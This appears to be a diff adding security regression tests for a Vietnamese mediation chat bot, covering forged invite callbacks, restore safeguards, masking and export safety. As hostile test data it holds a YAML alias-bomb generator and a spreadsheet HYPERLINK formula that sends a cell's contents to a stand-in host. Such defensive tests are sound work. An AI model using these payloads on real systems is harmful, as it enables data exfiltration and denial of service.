@@ -1,0 +1,416 @@
+"""Issue 14: each attack that succeeded is reproduced here first, then refused.
+
+High: forged invite callbacks (roles, uses, days) and invites of a deactivated person; party names lost when a
+case is corrected without PARTY_DATA_KEY. Medium and low items follow below their own headings.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from bot import messages as msg
+from services.models import Role
+from services.registration import PermissionDenied, RegistrationError
+from storage.audit import AuditLog
+from tests.harness import texts
+
+NEW_USER = 5101
+
+
+# --- 1. Invites: the server decides which roles, uses and days an inviter may create ------------------------
+
+async def _commune_invites(bot, code="ML"):
+    """Invites people created (the demo seed's invite has no creator)."""
+    invites = await bot.services.invites.of_commune((await bot.services.org.commune_by_code(code)).id)
+    return [i for i in invites if i.created_by is not None]
+
+
+async def test_forged_invite_callbacks_create_nothing(bot):
+    """The attack: /moi, then callback data the buttons never offer (role, 500 uses, 365 days)."""
+    await bot.say("commune", "/moi")
+    out = await bot.tap_data("commune", "inv:r:commune_official")
+    assert "không được dùng" in texts(out)
+    await bot.tap_data("commune", "inv:u:500")
+    out = await bot.tap_data("commune", "inv:d:365")
+    assert "Đã tạo mã mời" not in texts(out)
+    # the offered role, then forged uses and days
+    await bot.say("commune", "/moi")
+    await bot.tap("commune", "Hòa giải viên")
+    await bot.tap("commune", "Tổ hòa giải tổ dân phố 2")
+    await bot.tap_data("commune", "inv:u:500")
+    out = await bot.tap_data("commune", "inv:d:365")
+    assert "Đã tạo mã mời" not in texts(out)
+    assert await _commune_invites(bot) == []
+
+
+@pytest.mark.parametrize("who, role, uses, days, allowed", [
+    ("commune", Role.MEDIATOR, 30, 30, True),
+    ("commune", Role.TEAM_LEADER, 1, 7, True),
+    ("commune", Role.COMMUNE_OFFICIAL, 1, 7, False),
+    ("commune", Role.MEDIATOR, 500, 7, False),
+    ("commune", Role.MEDIATOR, 1, 365, False),
+    ("commune", Role.MEDIATOR, 2, 7, False),
+    ("province", Role.COMMUNE_OFFICIAL, 5, 14, True),
+    ("province", Role.MEDIATOR, 31, 14, False),
+    ("admin", Role.COMMUNE_OFFICIAL, 10, 30, True),
+    ("admin", Role.MEDIATOR, 1, 60, False),
+    ("mediator", Role.MEDIATOR, 1, 7, False),
+    ("leader", Role.MEDIATOR, 1, 7, False),
+])
+async def test_invite_rules_by_inviter(bot, who, role, uses, days, allowed):
+    creator = await bot.services.people.by_identity("console", str(bot.user_id(who)))
+    commune = await bot.services.org.commune_by_code("ML")
+    create = bot.services.registration.create_invite(creator, commune.id, role, max_uses=uses, days=days)
+    if allowed:
+        invite = await create
+        assert invite.role == role and invite.max_uses == uses and invite.created_by == creator.id
+    else:
+        with pytest.raises(PermissionDenied):
+            await create
+        assert await _commune_invites(bot) == []
+
+
+async def test_invite_creation_is_audited(bot):
+    creator = await bot.services.people.by_identity("console", str(bot.user_id("commune")))
+    invite = await bot.services.registration.create_invite(creator, creator.commune_id, Role.MEDIATOR,
+                                                           max_uses=5, days=14)
+    rows = await AuditLog(bot.services.db).rows(object_type="invite")
+    assert [(r.action, r.object_id, r.actor_id, r.commune_id) for r in rows] == [
+        ("invite.create", str(invite.id), creator.id, creator.commune_id)]
+    assert rows[0].after["role"] == "mediator" and rows[0].after["max_uses"] == 5
+
+
+async def test_invite_of_deactivated_creator_stops_working(bot):
+    people = bot.services.people
+    creator = await people.by_identity("console", str(bot.user_id("commune")))
+    team = await bot.services.org.team_by_code("ML-01")
+    invite = await bot.services.registration.create_invite(creator, creator.commune_id, Role.MEDIATOR,
+                                                           team_id=team.id, max_uses=5, days=14)
+    await people.update_fields(creator.id, active=False)
+    out = await bot.say(NEW_USER, f"/start {invite.code}")
+    assert msg.CODE_ERRORS["invalid"] in texts(out)
+    with pytest.raises(RegistrationError) as refused:
+        await bot.services.registration.register(invite.code, "Lò Văn Nam", "console", str(NEW_USER))
+    assert refused.value.reason == "invalid" and refused.value.detail == "creator_inactive"
+    assert await people.by_identity("console", str(NEW_USER)) is None
+
+
+async def test_deactivated_between_check_and_redeem(bot):
+    """The storage refuses too (the service check and the redemption are separate steps)."""
+    people = bot.services.people
+    creator = await people.by_identity("console", str(bot.user_id("commune")))
+    team = await bot.services.org.team_by_code("ML-01")
+    invite = await bot.services.registration.create_invite(creator, creator.commune_id, Role.MEDIATOR,
+                                                           team_id=team.id, max_uses=5, days=14)
+    bot.api.user(NEW_USER, "Nam", "Lò Văn")
+    await bot.say(NEW_USER, f"/start {invite.code}")
+    await bot.tap(NEW_USER, "Đúng")
+    await people.update_fields(creator.id, active=False)
+    out = await bot.tap(NEW_USER, "Đúng")
+    assert msg.CODE_ERRORS["invalid"] in texts(out)
+    assert await people.by_identity("console", str(NEW_USER)) is None
+
+
+# --- 2. Party names survive a correction made without PARTY_DATA_KEY ---------------------------------------
+
+async def _case_with_parties(bot, cipher):
+    import secrets
+    commune = await bot.services.org.commune_by_code("ML")
+    await bot.services.db.execute("UPDATE communes SET store_party_names = 1 WHERE id = ?", (commune.id,))
+    team = await bot.services.org.team_by_code("ML-01")
+    reporter = await bot.services.people.by_identity("console", str(bot.user_id("mediator")))
+    today = bot.services.cases.today().isoformat()
+    values = {"team_id": team.id, "received_on": today, "field": "dat_dai", "basis": "yeu_cau", "result": "thanh",
+              "closed_on": today, "parties_count": 2, "mediator_ids": [reporter.id], "summary": "",
+              "parties": cipher.encrypt("Lò Văn A, Quàng Thị B")}
+    return await bot.services.cases.repo.create(values, province_id=commune.province_id, commune_id=commune.id,
+                                                commune_code=commune.code, reporter_id=reporter.id,
+                                                submission_key=secrets.token_hex(8))
+
+
+@pytest.mark.parametrize("who", ["commune", "mediator"])
+async def test_correction_without_key_keeps_party_names(bot, who):
+    from cryptography.fernet import Fernet
+
+    from services.privacy import PartyCipher
+    key = Fernet.generate_key().decode()
+    case = await _case_with_parties(bot, PartyCipher(key))
+    stored = case.parties_encrypted
+    bot.services.cases.cipher = PartyCipher(None)  # the bot restarted without PARTY_DATA_KEY
+    await bot.say(who, "/vuviec")
+    out = await bot.tap_data(who, f"case:c:{case.id}")
+    assert msg.CASE_PARTIES_LOCKED in texts(out)
+    await bot.tap(who, "Sửa: Số bên")
+    await bot.tap(who, "3")
+    out = await bot.tap(who, "Gửi báo cáo")
+    assert msg.CASE_CORRECTED.format(number=case.number) in texts(out)
+    corrected = await bot.services.cases.repo.get(case.id)
+    assert corrected.parties_count == 3 and corrected.parties_encrypted == stored
+    assert PartyCipher(key).decrypt(corrected.parties_encrypted) == "Lò Văn A, Quàng Thị B"
+
+
+# --- 4. A flow left open cannot write text typed for another flow into its record ---------------------------
+
+async def test_library_search_does_not_become_a_case_summary(bot):
+    """The attack: a case report left on its review screen, then /tailieu and a search typed."""
+    await bot.say("mediator", "/baocao")
+    for choice in ("Hôm nay", "Đất đai", "Một bên hoặc các bên yêu cầu", "Hòa giải thành"):
+        await bot.tap("mediator", choice)
+    await bot.say("mediator", "/tailieu")
+    await bot.say("mediator", "so theo doi")
+    person = await bot.services.people.by_identity("console", str(bot.user_id("mediator")))
+    draft = await bot.services.cases.repo.draft(person.id, "new")
+    assert draft is not None and not draft.values.get("summary")  # the draft is kept, without the search text
+    # Coming back to the report makes it the flow that takes typed text again.
+    await bot.say("mediator", "/baocao")
+    await bot.tap("mediator", "case:resume:n")
+    await bot.say("mediator", "Tranh chấp ranh giới đất giữa hai hộ")
+    draft = await bot.services.cases.repo.draft(person.id, "new")
+    assert draft.values["summary"] == "Tranh chấp ranh giới đất giữa hai hộ"
+
+
+async def test_statistics_period_does_not_become_broadcast_text(bot):
+    """The attack: /thongbao waiting for its text, then /thongke with a typed period."""
+    await bot.say("commune", "/thongbao")
+    await bot.tap("commune", "Soạn thông báo mới")
+    await bot.tap("commune", "Toàn xã/phường")
+    await bot.say("commune", "/thongke")
+    await bot.tap_data("commune", "st:per:custom")
+    out = await bot.say("commune", "01/01/2025 - 30/06/2025")
+    assert msg.BC_PREVIEW_INTRO not in texts(out) and msg.BC_ASK_ATTACHMENT not in texts(out)
+    assert "01/01/2025 - 30/06/2025" not in str(bot.app.user_data[bot.user_id("commune")].get("bc"))
+
+
+async def test_case_writer_refuses_text_claimed_by_another_flow(bot):
+    """The service itself refuses, whatever conversation state the chat layer is in."""
+    from services.cases import TextNotAwaited
+    cases = bot.services.cases
+    person = await bot.services.people.by_identity("console", str(bot.user_id("mediator")))
+    await cases.begin(person)
+    await cases.answer(person, "new", None, "hôm nay")  # the draft asked: accepted
+    await bot.services.text_claims.claim(person.id, "cmd:thongke")
+    with pytest.raises(TextNotAwaited):
+        await cases.answer(person, "new", None, "dat dai")
+
+
+# --- 14. Private chats only: a group gets one polite line and nothing else -----------------------------------
+
+GROUP = -1001234567890
+
+
+def _in_group(update: dict, kind: str) -> dict:
+    import copy
+    update = copy.deepcopy(update)
+    message = update.get("message") or update["callback_query"]["message"]
+    message["chat"] = {"id": GROUP, "type": kind, "title": "Tổ hòa giải bản Na Lay"}
+    return update
+
+
+@pytest.mark.parametrize("kind", ["group", "supergroup", "channel"])
+async def test_group_chat_gets_one_polite_line(bot, kind):
+    from tests.test_cases_followup import make_case
+    case = await make_case(bot, "mediator", result="thanh")
+    before = len(bot.api.outbox)
+    await bot._process(_in_group(bot.api.user_message(bot.user_id("commune"), "/vuviec"), kind))
+    private = await bot.say("commune", "/vuviec")  # a message with buttons to tap from the group
+    await bot._process(_in_group(bot.api.user_click(bot.user_id("commune"), private[-1]["message_id"],
+                                                    f"case:c:{case.id}"), kind))
+    await bot._process(_in_group(bot.api.user_message(bot.user_id("guest"), "hòa giải là gì"), kind))
+    to_group = [m for m in bot.api.outbox[before:] if m["chat"]["id"] == GROUP]
+    assert [m["text"] for m in to_group] == [msg.GROUP_CHAT_REFUSED] * 3
+    person = await bot.services.people.by_identity("console", str(bot.user_id("commune")))
+    assert await bot.services.cases.repo.draft(person.id, "edit") is None  # nothing was started
+
+
+# --- 5. admin restore: not onto the live file, not while the bot runs, not a backup lacking tables ----------
+
+async def _seeded_db(path):
+    from bot.config import Config
+    from bot.container import Services
+    from bot.demo import seed_demo
+    services = Services.build(Config(database_path=str(path)))
+    await services.open()
+    await seed_demo(services)
+    return services
+
+
+def _count(path, table="persons"):
+    import sqlite3
+    from contextlib import closing
+    with closing(sqlite3.connect(path)) as conn:
+        return conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]
+
+
+@pytest.mark.sqlite_only
+async def test_restore_onto_the_live_file_is_refused(tmp_path, capsys):
+    from bot.cli import main
+    live = tmp_path / "live.db"
+    await (await _seeded_db(live)).close()
+    persons = _count(live)
+    assert main(["admin", "restore", "--db", str(live), str(live), "--yes"]) == 1
+    assert "chính là CSDL đang dùng" in capsys.readouterr().err
+    assert _count(live) == persons
+
+
+@pytest.mark.sqlite_only
+async def test_restore_while_the_bot_runs_is_refused(tmp_path, capsys):
+    from bot.cli import main
+    from storage.backup import backup
+    live = tmp_path / "live.db"
+    running = await _seeded_db(live)  # the running bot has the database open
+    backup(live, tmp_path / "old.bak")
+    number = await running.db.execute(
+        "INSERT INTO bot_state(kind, key, data) VALUES ('probe', 'confirmed-after-backup', '{}')")
+    assert number
+    assert main(["admin", "restore", "--db", str(live), str(tmp_path / "old.bak"), "--yes"]) == 1
+    assert "đang được bot" in capsys.readouterr().err
+    assert await running.db.fetchone("SELECT 1 FROM bot_state WHERE key = 'confirmed-after-backup'") is not None
+    await running.close()
+    # Once the bot has stopped, the restore goes ahead.
+    assert main(["admin", "restore", "--db", str(live), str(tmp_path / "old.bak"), "--yes"]) == 0
+
+
+@pytest.mark.sqlite_only
+async def test_restore_refuses_a_backup_lacking_tables(tmp_path, capsys):
+    import sqlite3
+    from contextlib import closing
+
+    from bot.cli import main
+    from storage.backup import backup
+    live = tmp_path / "live.db"
+    await (await _seeded_db(live)).close()
+    backup(live, tmp_path / "cut.bak")
+    with closing(sqlite3.connect(tmp_path / "cut.bak")) as conn:
+        conn.execute("PRAGMA foreign_keys = OFF")
+        conn.execute("DROP TABLE case_audit")
+        conn.commit()
+    target = tmp_path / "target.db"
+    assert main(["admin", "restore", "--db", str(target), str(tmp_path / "cut.bak"), "--yes"]) == 1
+    assert "case_audit" in capsys.readouterr().err and not target.exists()
+
+
+# --- 6. admin load-org: names are text of bounded length; YAML aliases are refused before expansion ---------
+
+def _alias_bomb(levels: int = 6) -> str:
+    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
+    for i in range(1, levels + 1):
+        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
+    lines += ["province: {code: DB, name: Điện Biên}",
+              "communes:",
+              "  - code: ML",
+              "    name: Phường Mường Lay",
+              "    teams:",
+              f"      - {{code: ML-01, name: *a{levels}}}"]
+    return "\n".join(lines) + "\n"
+
+
+@pytest.mark.sqlite_only
+def test_load_org_refuses_alias_bomb(tmp_path, capsys):
+    from bot.cli import main
+    org_file = tmp_path / "bomb.yaml"
+    org_file.write_text(_alias_bomb(), encoding="utf-8")
+    assert org_file.stat().st_size < 1000
+    assert main(["admin", "load-org", "--db", str(tmp_path / "org.db"), str(org_file)]) == 1
+    assert "bí danh YAML" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("name, problem", [
+    ("[Tổ, một]", "phải là chữ"),
+    ("{a: 1}", "phải là chữ"),
+    ("12345", "phải là chữ"),
+    ("true", "phải là chữ"),
+    ("'" + "Tổ hòa giải " * 20 + "'", "tối đa 150"),
+])
+def test_load_org_names_are_bounded_text(tmp_path, name, problem):
+    import yaml
+
+    from services.org_loader import OrgFileError, parse_org
+    data = yaml.safe_load(f"province: {{code: DB, name: Điện Biên}}\ncommunes:\n  - code: ML\n    name: Mường Lay\n"
+                          f"    teams:\n      - {{code: ML-01, name: {name}}}\n"
+                          f"    officials:\n      - {{name: {name}}}\n")
+    _, problems = parse_org(data)
+    assert len([p for p in problems if problem in p]) == 2, problems
+    assert OrgFileError(problems).problems
+
+
+
+# --- 7. XLSX import reads every row, whatever dimension the sheet states ------------------------------------
+
+def test_xlsx_import_reads_rows_beyond_the_stated_dimension(tmp_path):
+    import re
+    import zipfile
+
+    from services.case_import import read_table
+    from tests.test_case_import import GOOD, write_xlsx
+    rows = [[*GOOD[0][:8], f"R-{i:02d}"] for i in range(10)]
+    honest = write_xlsx(tmp_path / "honest.xlsx", rows)
+    lying = tmp_path / "lying.xlsx"
+    with zipfile.ZipFile(honest) as src, zipfile.ZipFile(lying, "w") as dst:
+        for item in src.infolist():
+            data = src.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data, n = re.subn(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:I3"', data)
+                assert n == 1
+            dst.writestr(item, data)
+    table = read_table(lying)
+    assert [cells["external_id"] for _, cells in table] == [f"R-{i:02d}" for i in range(10)]
+
+
+# --- 8. Masking: numbers glued to letters; the text of legal questions ---------------------------------------
+
+@pytest.mark.parametrize("text, digits, mask", [
+    ("SĐT0912345678 nhà bên", "0912345678", "phone"),
+    ("gọi đt0912345678 nhé", "0912345678", "phone"),
+    ("CCCD001234567890 của bà A", "001234567890", "id"),
+    ("sdt:0912.345.678", "0912345678", "phone"),
+    ("số0912345678abc", "0912345678", "phone"),
+])
+def test_numbers_glued_to_letters_are_masked(text, digits, mask):
+    from services.privacy import mask_personal_numbers
+    masked = mask_personal_numbers(text)
+    assert digits not in masked.replace(".", "")
+    assert (msg.CASE_MASK_PHONE if mask == "phone" else msg.CASE_MASK_ID) in masked
+
+
+def test_glued_amounts_and_case_numbers_are_kept():
+    from services.privacy import mask_personal_numbers
+    text = "vụ ML-2025-0007, vay 200.000.000đ, trả 350000000đồng, thửa số 123, ngày 15/3/2025"
+    assert mask_personal_numbers(text) == text
+
+
+async def test_legal_question_is_stored_masked(bot):
+    await bot.say("guest", "đất của tôi bị lấn, SĐT0912345678, CCCD 001234567890, hỏi hòa giải thế nào")
+    rows = await bot.services.db.fetchall("SELECT text, folded FROM qa_questions")
+    assert rows and all("0912345678" not in r["text"] + r["folded"] for r in rows)
+    assert all("001234567890" not in r["text"] + r["folded"] for r in rows)
+    assert msg.CASE_MASK_PHONE in rows[0]["text"]
+
+
+# --- 9. Names from the org file are text in the statistics XLSX; a '$' does not break the chart --------------
+
+def _hostile_report():
+    from services.models import Team
+    from services.statistics import Scope, build_report
+    from tests import test_stats_export as se
+    teams = [Team(100, 10, "ML-01", '=HYPERLINK("http://x.example/?"&A1,"Bấm")'), Team(101, 10, "ML-02", "Tổ $_^$ bản")]
+    scope = Scope("commune", se.ML.id, se.ML.code, se.ML.name, se.PROVINCE, se.ML)
+    return build_report(scope, se.PERIOD, field_results=se.FIELD_ROWS, team_results=se.TEAM_ROWS, teams=teams,
+                        members=se.MEMBERS, recognition_groups=[])
+
+
+def test_org_names_are_text_cells_in_the_statistics_xlsx():
+    import io
+
+    from openpyxl import load_workbook
+
+    from services.stats_export import report_xlsx
+    book = load_workbook(io.BytesIO(report_xlsx(_hostile_report())))
+    cells = [c for ws in book.worksheets for r in ws.iter_rows() for c in r if isinstance(c.value, str)]
+    assert not [c.coordinate for c in cells if c.data_type == "f" or c.value.startswith("=")]
+    assert any("HYPERLINK" in c.value for c in cells)
+
+
+def test_dollar_in_a_team_name_does_not_break_the_chart():
+    from services.stats_export import report_chart
+    png = report_chart(_hostile_report())
+    assert png.startswith(b"\x89PNG")
